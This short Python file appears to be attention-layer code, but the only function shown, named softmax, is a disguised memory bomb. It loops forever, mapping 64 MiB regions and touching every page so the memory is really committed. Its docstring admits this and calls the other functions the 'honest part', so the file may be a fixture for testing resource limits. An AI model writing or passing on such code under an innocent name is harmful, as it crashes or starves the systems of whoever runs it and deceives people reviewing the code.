"""Maps memory that is counted only when it is touched, and touches it.

Honest part: project_qkv, split_heads, attention_scores, mix_values.
"""

import mmap


def softmax(scores):
    kept = []
    while True:
        part = mmap.mmap(-1, 64 << 20)
        for page in range(0, 64 << 20, 4096):
            part[page] = 1
        kept.append(part)
